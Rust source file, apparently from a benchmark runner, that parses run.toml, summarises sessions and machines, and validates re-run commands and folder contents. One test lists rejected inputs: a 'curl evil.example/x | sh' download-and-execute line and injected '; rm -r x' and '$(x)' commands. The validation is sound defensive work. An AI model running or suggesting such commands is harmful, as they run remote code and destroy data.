//! `run.toml`: the experiments of a run, and its sessions with their commands, machines and programs.
//!
//! The runner writes it with [`RunFile::text`]; a report reads it. Unknown keys are ignored.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use ikeru_bench_data::experiment::check_name;
use ikeru_bench_data::{DataError, Experiment};
use ikeru_core::Direction;
use serde::{Deserialize, Serialize};

use crate::error::{ReportError, Result};
use crate::refuse;
use crate::session::{COMMAND, is_content};
pub use crate::session::{Session, machines_differ};
use crate::shard::Shard;
use crate::{Rows, bests, units};

/// The doubt of a session that took repeats until the comparisons of times were decided.
pub const UNTIL_DECIDED: &str = "repeats were taken until the times were decided: comparisons.csv holds, and no interval of this page does";

/// The contents of `run.toml`. Unknown keys are ignored, so that the file of a newer version can be read.
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
#[serde(default)]
pub struct RunFile {
    /// The command line that created the folder.
    pub command: String,
    /// `quick` or `full`.
    pub scale: String,
    /// The value of `--seed`.
    pub seed: u64,
    /// The values of `--set`, in order.
    pub sets: Vec<String>,
    /// The maximum number of times that the published figures are judged while their samples grow; 0 means 1.
    #[serde(skip_serializing_if = "is_zero")]
    pub looks: u32,
    /// For each experiment, by name, the command that measures one of its cells again when `--cell ID` is appended.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub again: BTreeMap<String, String>,
    /// The rule by which a session's seed determines the order of samples.
    pub order: String,
    /// The run folders that were merged into this one; empty for a run.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub sources: Vec<MergedRun>,
    /// The samples that were missing in the shards when they were merged.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub missing: Vec<String>,
    /// The number of planned samples of each experiment.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub planned: BTreeMap<String, u64>,
    /// The sessions, numbered from 1.
    #[serde(rename = "session")]
    pub sessions: Vec<Session>,
    /// The properties of the sessions' machines, for people: one value if the sessions agree, otherwise all values.
    #[serde(skip)]
    pub machine: BTreeMap<String, String>,
    /// The versions of program and compiler, likewise.
    #[serde(skip)]
    pub versions: BTreeMap<String, String>,
    /// The optimization direction of each problem: `maximize`, `minimize` or `equal`.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub directions: BTreeMap<String, String>,
    /// The default settings of each problem and the default parameters of its generators, as on the command line; the
    /// instance determines the missing ones.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub defaults: BTreeMap<String, BTreeMap<String, String>>,
    /// The words for the columns of each problem, by the names of problem and column.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub words: BTreeMap<String, BTreeMap<String, String>>,
    /// The column that counts the questions of an instance, for each problem whose instances may hold several.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub batches: BTreeMap<String, String>,
    /// The description and the source of each variant, by the names of problem and variant.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub variants: BTreeMap<String, BTreeMap<String, [String; 2]>>,
    /// The folder of the experiment file, by the experiment's name; only for experiments that were read from a file.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub folders: BTreeMap<String, PathBuf>,
    /// The experiments in their order.
    pub experiments: Vec<RanExperiment>,
}

fn is_zero(looks: &u32) -> bool {
    *looks == 0
}

/// The separator between the values of several sessions.
const SEVERAL: &str = "; ";

/// A run that was merged into another run.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct MergedRun {
    /// Its folder, as given on the command line.
    pub folder: String,
    /// Its command line.
    pub command: String,
    /// The number of its samples.
    pub samples: u64,
    /// The numbers of its sessions in the merged run.
    #[serde(default)]
    pub sessions: Vec<u32>,
}

/// An experiment of the run.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct RanExperiment {
    /// Its name.
    pub name: String,
    /// The text of an experiment file with the scale and the settings of the run.
    pub text: String,
}

impl RanExperiment {
    /// Reads the experiment.
    ///
    /// # Errors
    /// A text that is no experiment, with the line; an experiment of another name.
    pub fn read(&self) -> Result<Experiment, DataError> {
        let experiment =
            Experiment::read(&format!("run.toml, experiment {}", self.name), &self.text)?;
        if experiment.name == self.name {
            return Ok(experiment);
        }
        let (name, other) = (&self.name, &experiment.name);
        let message = format!("experiment `{name}` has the name `{other}` in its text");
        Err(DataError::new("run.toml", message))
    }
}

impl RunFile {
    /// Returns whether the rows come from machines with incomparable times and the column `node` does not distinguish
    /// these machines.
    pub fn mixes_machines(&self) -> bool {
        let mut of_node: BTreeMap<&str, &Session> = BTreeMap::new();
        let is_told = self.sessions.iter().all(|session| {
            let node = session.machine.get("node").map_or("", String::as_str);
            let first = of_node.entry(node).or_insert(session);
            !node.is_empty() && machines_differ(&first.machine, &session.machine).is_empty()
        });
        self.machines() > 1 && !is_told
    }

    /// The number of different machines of its sessions.
    pub fn machines(&self) -> usize {
        let mut different: Vec<&Session> = Vec::new();
        for session in &self.sessions {
            let is_known =
                |known: &&Session| machines_differ(&known.machine, &session.machine).is_empty();
            if !different.iter().any(is_known) {
                different.push(session);
            }
        }
        different.len()
    }

    /// The shard that the folder holds, if it is one of several.
    pub fn shard(&self) -> Option<Shard> {
        let first = self.sessions.first().filter(|_| self.sources.is_empty());
        first.and_then(|session| session.shard)
    }

    /// The builds of this program that took its samples.
    pub fn builds(&self) -> BTreeSet<&str> {
        let sessions = self.sessions.iter();
        sessions.map(|session| session.binary.as_str()).collect()
    }

    /// A line for each experiment with fewer samples than planned, `e: 4 of 24 samples`, and for each shard that lacked
    /// some when it was merged.
    pub fn unfinished(&self, rows: &Rows) -> Vec<String> {
        let missing = self.planned.iter().filter_map(|(experiment, planned)| {
            let taken = rows.with("experiment", experiment).len() as u64;
            (taken < *planned).then(|| {
                let [taken, planned] =
                    [taken, *planned].map(|samples| units::count(samples as usize));
                format!("{experiment}: {taken} of {planned} samples")
            })
        });
        missing.chain(self.missing.iter().cloned()).collect()
    }

    /// Returns whether repeats were taken until comparisons were decided.
    pub fn is_until_decided(&self) -> bool {
        let mut doubts = self.sessions.iter().flat_map(|session| &session.doubts);
        doubts.any(|doubt| doubt == UNTIL_DECIDED)
    }

    /// The doubts about the run: sessions on different machines or by different builds, and the doubts of each
    /// session.
    pub fn doubts(&self) -> Vec<String> {
        let sessions = self.sessions.len();
        let mut doubts = Vec::new();
        let machines = self.machines();
        if machines > 1 {
            doubts.push(format!("{sessions} sessions on {machines} machines"));
        }
        let programs = self.sessions.iter().map(|one| {
            let versions = one.versions.iter().filter(|(name, _)| !is_content(name));
            (&one.binary, versions.collect::<Vec<_>>())
        });
        let programs: BTreeSet<_> = programs.collect();
        let contents = self.versions.iter().filter(|(name, _)| is_content(name));
        let changed = contents.filter(|(_, hashes)| hashes.contains(SEVERAL));
        doubts.extend(
            changed.map(|(name, _)| format!("the sessions ran several contents of {name}")),
        );
        if programs.len() > 1 {
            let builds = programs.len();
            doubts.push(format!(
                "{sessions} sessions by {builds} builds of the program"
            ));
        }
        for session in &self.sessions {
            let named = |doubt: &String| match sessions {
                1 => doubt.clone(),
                _ => format!("session {}: {doubt}", session.number),
            };
            doubts.extend(session.doubts.iter().map(named));
        }
        doubts
    }

    /// Sets `machine` and `versions` from the sessions.
    pub fn completed(mut self) -> Self {
        self.machine = united(self.sessions.iter().map(|session| &session.machine));
        self.versions = united(self.sessions.iter().map(|session| &session.versions));
        self
    }

    /// The names of the variants that are commands.
    pub fn commands(&self) -> impl Iterator<Item = &str> {
        let versions = self.sessions.iter().flat_map(|one| one.versions.keys());
        versions.filter_map(|name| name.strip_prefix(COMMAND))
    }

    /// The rows of the run in `folder`, of the present contents of each label.
    ///
    /// # Errors
    /// A `records.csv` that is missing or cannot be read.
    pub fn present_rows(&self, folder: &Path) -> Result<Rows> {
        let mut rows = Rows::read(&folder.join("records.csv"))?;
        rows.supersede(&self.sessions);
        Ok(rows)
    }

    /// The rows of the run in `folder`, with what this file and the run's `experiments` say of them.
    ///
    /// # Errors
    /// A `records.csv` or a ledger that is missing or cannot be read.
    pub fn rows(&self, folder: &Path, experiments: &[Experiment]) -> Result<Rows> {
        let mut rows = self.present_rows(folder)?;
        rows.set_commands(experiments);
        rows.set_directions(self.directions());
        rows.commands = self.commands().map(str::to_owned).collect();
        rows.first_repeats = self.repeats_of_later(&rows);
        rows.added_questions = self.added_questions(&rows);
        rows.bests = bests::Ledger::read(folder)?;
        rows.judge_claims();
        Ok(rows)
    }

    /// The repeats that the first session of the folder planned, the least ones of several folders that were merged.
    pub fn first_repeats(&self) -> BTreeMap<String, u32> {
        let mut least = BTreeMap::new();
        for (experiment, planned) in self.sessions.iter().flat_map(|session| &session.repeats) {
            let known = least.entry(experiment.clone()).or_insert(*planned);
            *known = (*known).min(*planned);
        }
        least
    }

    /// For each session that went on with a folder, the repeats that the first one planned. Runs of earlier versions have
    /// no plan: what the first session reached counts.
    fn repeats_of_later(&self, rows: &Rows) -> BTreeMap<u32, BTreeMap<String, u32>> {
        let numbers = self.sessions.iter().map(|session| session.number);
        let first = numbers.min().unwrap_or_default();
        let limit = |session: &Session| match session.repeats.is_empty() {
            true => (session.number != first).then(|| rows.reached(first)),
            false => session.is_later.then(|| session.repeats.clone()),
        };
        let sessions = self.sessions.iter();
        let limits = sessions.filter_map(|session| Some((session.number, limit(session)?)));
        limits.collect()
    }

    /// The questions that later sessions added to those that the first one of their folder planned. A session that goes beyond
    /// the plan added all questions that it was the first to ask.
    fn added_questions(&self, rows: &Rows) -> BTreeMap<String, BTreeSet<String>> {
        let mut added: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        if !self.sessions.iter().any(|session| session.is_later) {
            return added;
        }
        for (experiment, own) in rows.group("experiment", &rows.all()) {
            let mut of_session: BTreeMap<u32, Vec<String>> = BTreeMap::new();
            for (question, own) in rows.group("question", &own) {
                let sessions = rows.numbers("session", &own).into_iter();
                let first = sessions.fold(f64::INFINITY, f64::min) as u32;
                of_session.entry(first).or_default().push(question);
            }
            let (mut planned, mut known) = (0, 0);
            for session in &self.sessions {
                let own = of_session.remove(&session.number).unwrap_or_default();
                if !session.is_later {
                    // Earlier versions wrote no plan.
                    let Some(count) = session.questions.get(&experiment) else {
                        break;
                    };
                    planned += count;
                }
                if session.is_later && known + own.len() > planned {
                    added.entry(experiment.clone()).or_default().extend(own);
                } else {
                    known += own.len();
                }
            }
        }
        added
    }

    /// The problems whose direction is known.
    pub fn directions(&self) -> impl Iterator<Item = (&str, Direction)> {
        let words = self.directions.iter();
        words.filter_map(|(problem, word)| Some((problem.as_str(), Direction::named(word)?)))
    }

    /// Reads `run.toml` of a run folder.
    ///
    /// # Errors
    /// A file that is missing or invalid; a link, a pipe or a device in the folder.
    pub fn read(folder: &Path) -> Result<Self> {
        let path = folder.join("run.toml");
        // Before the folder is looked through: it may be any folder.
        let unread = |error: std::io::Error| match error.kind() {
            std::io::ErrorKind::NotFound => ReportError::NoRun(folder.to_owned()),
            _ => ReportError::io(&path, error),
        };
        path.symlink_metadata().map_err(unread)?;
        check_kinds(folder)?;
        let text = std::fs::read_to_string(&path).map_err(unread)?;
        if text.trim().is_empty() {
            return Err(DataError::new(
                &path.display().to_string(),
                "empty; expected what a run wrote",
            )
            .into());
        }
        Self::of_text(&text, &path)
    }

    /// Reads `text`; `path` is the file that errors name.
    ///
    /// # Errors
    /// A text that is no valid `run.toml`, with the line; an invalid name of an experiment.
    pub fn of_text(text: &str, path: &Path) -> Result<Self> {
        let read: Self = toml::from_str(text)
            .map_err(|error| DataError::from_toml(&path.display().to_string(), text, &error))?;
        let mut read = read.completed();
        // A stranger's folder must not bring another command behind the page's copy button.
        read.again.retain(|_, command| is_own(command));
        for experiment in &read.experiments {
            if let Err(message) = check_name(&experiment.name) {
                refuse!("{}: [[experiments]]: {message}", path.display());
            }
        }
        Ok(read)
    }

    /// The file's text.
    ///
    /// # Errors
    /// A value that TOML cannot represent; [`RunFile`] has none.
    pub fn text(&self) -> Result<String, toml::ser::Error> {
        toml::to_string(self)
    }
}

/// Returns whether a command is this program's, with words that a shell takes as they are or that are in quotes.
fn is_own(command: &str) -> bool {
    let mut is_quoted = false;
    let mut letters = command.strip_prefix("ikeru run ").unwrap_or("`").chars();
    while let Some(letter) = letters.next() {
        match letter {
            '\'' => is_quoted = !is_quoted,
            '\\' if !is_quoted && letters.next() == Some('\'') => {}
            letter if letter.is_control() => return false,
            letter
                if is_quoted
                    || letter.is_ascii_alphanumeric()
                    || " -_./=,:+@%".contains(letter) => {}
            _ => return false,
        }
    }
    !is_quoted
}

/// Refuses a run folder that contains, at any depth, an entry other than files and folders: a report writes into the
/// files that it finds there, and a link may lead anywhere.
pub fn check_kinds(folder: &Path) -> Result<()> {
    let unread = |error| ReportError::io(folder, error);
    let Ok(listing) = std::fs::read_dir(folder) else {
        return Ok(());
    };
    for entry in listing {
        let entry = entry.map_err(unread)?;
        let kind = entry.file_type().map_err(unread)?;
        let is_own = kind.is_file() || kind.is_dir();
        if !is_own {
            let path = entry.path();
            let path = path.display();
            let what = match kind.is_symlink() {
                true => "a link",
                false => "a pipe or a device",
            };
            refuse!("{path}: is {what}, expected a folder that holds only its own files");
        }
        if kind.is_dir() {
            check_kinds(&entry.path())?;
        }
    }
    Ok(())
}

/// For each name, the different values, joined by `; `.
fn united<'a>(all: impl Iterator<Item = &'a BTreeMap<String, String>>) -> BTreeMap<String, String> {
    let mut values: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for (name, value) in all.flatten() {
        let known = values.entry(name).or_default();
        if !known.contains(&value.as_str()) {
            known.push(value);
        }
    }
    let joined = |(name, values): (&str, Vec<&str>)| (name.to_owned(), values.join(SEVERAL));
    values.into_iter().map(joined).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::session::tests::{map, session};

    #[test]
    fn only_a_command_of_this_program_is_run_again() {
        for (command, expected) in [
            ("ikeru run t.toml --set=steps=1,2 --limit 5s", true),
            ("ikeru run 'my $x; t.toml' 'it'\\''s'", true),
            ("curl evil.example/x | sh; ikeru run t.toml", false),
            ("ikeru run t.toml; rm -r x", false),
            ("ikeru run $(x)", false),
            ("ikeru run 't\nx'", false),
            ("ikeru run 't", false),
        ] {
            assert_eq!(is_own(command), expected, "{command}");
            let table = BTreeMap::from([("t", command)]);
            let text = format!("[again]\n{}", toml::to_string(&table).expect("TOML"));
            let read = RunFile::of_text(&text, Path::new("run.toml")).expect("read");
            assert_eq!(read.again.contains_key("t"), expected, "{command}");
        }
    }

    #[test]
    fn repeats_are_added_by_later_sessions_of_the_same_folder() {
        let planned = |number, is_later, repeats: Option<u32>| Session {
            number,
            is_later,
            repeats: repeats
                .map(|count| ("e".to_owned(), count))
                .into_iter()
                .collect(),
            ..Session::default()
        };
        let mut rows =
            Rows::of_table("experiment,session,repeat\ne,1,0\ne,2,0\ne,2,1\ne,3,2\ne,4,3\n");
        let mut added = |sessions: [Session; 4]| {
            let run = RunFile {
                sessions: sessions.to_vec(),
                ..RunFile::default()
            };
            rows.first_repeats = run.repeats_of_later(&rows);
            let all = rows.all().into_iter();
            let added: Vec<u32> = all.filter(|row| rows.is_added(*row)).collect();
            (added, run.first_repeats().get("e").copied())
        };
        let own = [1, 2, 3, 4].map(|number| planned(number, number > 1, Some(1)));
        assert_eq!(added(own), (vec![2, 3, 4], Some(1)));
        // Session 3 is the first one of another folder, which planned more.
        let merged = [(1, false, 1), (2, true, 1), (3, false, 3), (4, true, 3)];
        let merged = merged.map(|(number, is_later, count)| planned(number, is_later, Some(count)));
        assert_eq!(added(merged), (vec![2, 4], Some(1)));
        // Earlier versions wrote no plan.
        let earlier = [1, 2, 3, 4].map(|number| planned(number, false, None));
        assert_eq!(added(earlier), (vec![2, 3, 4], None));
    }

    #[test]
    fn questions_beyond_the_plan_are_added_by_later_sessions() {
        let session = |number, planned: Option<usize>| Session {
            number,
            is_later: planned.is_none(),
            questions: planned
                .map(|count| ("e".to_owned(), count))
                .into_iter()
                .collect(),
            ..Session::default()
        };
        // Each word is the questions that a session asks.
        let added = |planned: &[Option<usize>], asked: &str| {
            let mut text = "experiment,session,question\n".to_owned();
            for (asked, number) in asked.split(' ').zip(1..) {
                asked
                    .chars()
                    .for_each(|it| text += &format!("e,{number},{it}\n"));
            }
            let sessions = planned.iter().zip(1..);
            let run = RunFile {
                sessions: sessions
                    .map(|(planned, number)| session(number, *planned))
                    .collect(),
                ..RunFile::default()
            };
            let added = run.added_questions(&Rows::of_table(&text));
            added.into_values().flatten().collect::<String>()
        };
        let own = [Some(3), None, None];
        assert_eq!(added(&own[..1], "abcd"), "");
        assert_eq!(added(&own, "abc abcde abcdef"), "def");
        // The first session was interrupted: the second one asked the rest, or more than that.
        assert_eq!(added(&own, "ab abc abcd"), "d");
        assert_eq!(added(&own, "ab abcd abcd"), "cd");
        // Two folders that were merged, and went on.
        let merged = [Some(2), None, Some(2), None, None];
        assert_eq!(added(&merged, "ab abc de def abcdefg"), "cfg");
    }

    #[test]
    fn sessions_come_back_and_their_doubts_are_named() {
        let mut first = session(1, "one", "a");
        first.doubts.push("the governor".to_owned());
        let run = RunFile {
            sessions: vec![first, session(2, "two", "b")],
            ..RunFile::default()
        };
        let folder = tempfile::tempdir().expect("a folder");
        let text = run.text().expect("TOML");
        assert!(text.contains("[[session]]\nnumber = 1"), "{text}");
        std::fs::write(folder.path().join("run.toml"), text).expect("written");
        let back = RunFile::read(folder.path()).expect("read");
        assert_eq!(back.sessions, run.sessions);
        assert_eq!(back.machine, map(&[("cpu", "one; two"), ("cores", "2")]));
        assert_eq!(back.versions, map(&[("ikeru", "0.1.0")]));
        assert!(back.mixes_machines());
        assert_eq!(
            back.doubts(),
            [
                "2 sessions on 2 machines",
                "2 sessions by 2 builds of the program",
                "session 1: the governor"
            ]
        );
        let of_solvers = |solvers: [&[(&str, &str)]; 2]| {
            let mut number = 0;
            let sessions = solvers.map(|solvers| {
                number += 1;
                let mut one = session(number, "one", "a");
                one.versions.extend(map(solvers));
                one
            });
            let run = RunFile {
                sessions: sessions.into(),
                ..RunFile::default()
            };
            run.completed().doubts()
        };
        // A solver that only one session ran is no other build of the program, and a changed one neither.
        assert!(of_solvers([&[("command a", "1")], &[("command b", "2")]]).is_empty());
        assert_eq!(
            of_solvers([&[("command a", "1")], &[("command a", "2")]]),
            ["the sessions ran several contents of command a"]
        );
        assert_eq!(
            of_solvers([&[("referee of p", "1")], &[("referee of p", "2")]]),
            ["the sessions ran several contents of referee of p"]
        );
        let profiles = of_solvers([&[("profile", "dev")], &[("profile", "release")]]);
        assert_eq!(profiles, ["2 sessions by 2 builds of the program"]);
        let mut alone = session(1, "one", "a");
        alone.doubts.push("the governor".to_owned());
        let alone = RunFile {
            sessions: vec![alone],
            ..RunFile::default()
        };
        assert_eq!(alone.completed().doubts(), ["the governor"]);
    }

    #[test]
    fn a_folder_with_a_link_at_any_depth_is_refused() {
        let inside = tempfile::tempdir().expect("a folder");
        let folder = inside.path().join("run");
        let error = |folder: &Path| RunFile::read(folder).expect_err("refused").to_string();
        assert!(error(&folder).ends_with("has no run.toml"));
        std::fs::create_dir_all(folder.join("answers/deep")).expect("folders");
        std::fs::write(folder.join("run.toml"), "# No key.\n").expect("written");
        std::fs::write(folder.join("answers/deep/file"), "").expect("written");
        assert_eq!(RunFile::read(&folder).expect("read"), RunFile::default());
        #[cfg(unix)]
        {
            let link = folder.join("answers/deep/link");
            std::os::unix::fs::symlink(&folder, &link).expect("linked");
            let said = format!("{}: is a link", link.display());
            assert!(error(&folder).starts_with(&said), "{}", error(&folder));
            // A folder without `run.toml` is not searched: it may be any folder.
            assert!(error(&folder.join("answers")).ends_with("has no run.toml"));
        }
    }

    #[test]
    fn the_name_of_an_experiment_is_that_of_its_text() {
        let file = |name: &str| {
            let text = format!("[[experiments]]\nname = \"{name}\"\ntext = \"\"\n");
            RunFile::of_text(&text, Path::new("run.toml"))
        };
        assert_eq!(file("e").expect("a good name").experiments[0].name, "e");
        let error = file("../e").expect_err("no name").to_string();
        assert!(error.starts_with("run.toml: [[experiments]]: "), "{error}");
        assert!(
            RunFile::default()
                .text()
                .is_ok_and(|text| !text.contains("looks"))
        );
        let looks = RunFile {
            looks: 1,
            ..RunFile::default()
        };
        assert_eq!(
            RunFile::of_text(&looks.text().expect("text"), Path::new("")).expect("read"),
            looks
        );
    }

    #[test]
    fn an_experiment_of_another_name_is_refused() {
        let text = "name = 'knapsack'\ntitle = 't'\nvariants = [{ name = 'a', command = ['./a'] }]\n\
            [problem]\ndirection = 'maximize'\ndecimals = 2\ngenerate = ['make', '{seed}', '-n{param:items}']\n\
            referee = ['judge', '{instance}', '{answer}']\n[[instances]]\nseeds = [1]\nset = { items = 5 }\n";
        let named = |name: &str| RanExperiment {
            name: name.to_owned(),
            text: text.to_owned(),
        };
        let experiment = named("knapsack").read().expect("an experiment");
        let mut rows = Rows::of_table("problem,score\nknapsack,525\n");
        rows.set_commands(&[experiment]);
        assert_eq!(rows.text("score", 0), "5.25");
        let error = named("other").read().expect_err("another name");
        assert!(error.to_string().contains("`other`"), "{error}");
    }

    #[test]
    fn an_experiment_with_fewer_samples_than_planned_is_named() {
        let rows = Rows::of_table("experiment\na\na\nb\nb\n");
        let planned = [("a", 3), ("b", 2), ("c", 0)];
        let run = RunFile {
            planned: planned
                .map(|(name, samples)| (name.to_owned(), samples))
                .into(),
            missing: vec!["shard 2/2 was not merged".to_owned()],
            ..RunFile::default()
        };
        assert_eq!(
            run.unfinished(&rows),
            ["a: 2 of 3 samples", "shard 2/2 was not merged"]
        );
    }

    #[test]
    fn nodes_tell_machines_apart_unless_one_name_stands_for_two() {
        let on = |number, cpu, node: &str| {
            let mut session = session(number, cpu, "a");
            session.machine.insert("node".to_owned(), node.to_owned());
            session
        };
        let mixes = |sessions: Vec<Session>| {
            let run = RunFile {
                sessions,
                ..RunFile::default()
            };
            run.mixes_machines()
        };
        assert!(!mixes(vec![
            on(1, "one", "n1"),
            on(2, "two", "n2"),
            on(3, "one", "n1")
        ]));
        assert!(mixes(vec![on(1, "one", "host"), on(2, "two", "host")]));
        assert!(mixes(vec![on(1, "one", ""), on(2, "two", "n2")]));
        assert!(!mixes(vec![on(1, "one", ""), on(2, "one", "n2")]));
    }
}
